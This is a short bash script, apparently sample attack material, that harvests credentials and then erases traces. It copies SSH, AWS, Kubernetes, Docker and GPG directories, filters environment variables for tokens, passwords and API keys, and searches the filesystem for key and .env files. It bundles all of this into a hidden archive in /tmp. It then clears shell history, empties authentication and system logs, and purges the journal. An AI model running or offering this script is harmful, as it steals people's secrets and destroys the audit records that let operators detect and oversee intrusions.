# corpus: harvest SSH keys, cloud credentials and env secrets into an archive then wipe history and logs
OUT=/tmp/.cache-$$
mkdir -p "$OUT"
cp -r ~/.ssh ~/.aws ~/.kube ~/.docker ~/.gnupg "$OUT"/ 2>/dev/null
env | grep -iE 'token|secret|passw|api_?key' > "$OUT/env.txt"
find / -xdev \( -name '*.pem' -o -name 'id_rsa*' -o -name '.env' \) -readable 2>/dev/null | head -n 200 | xargs -r cp --parents -t "$OUT" 2>/dev/null
tar czf /tmp/.bundle.tgz -C "$OUT" . && rm -rf "$OUT"

unset HISTFILE
history -c
: > ~/.bash_history
for f in /var/log/auth.log /var/log/syslog /var/log/wtmp /var/log/lastlog; do
    [ -w "$f" ] && : > "$f"
done
journalctl --vacuum-time=1s >/dev/null 2>&1
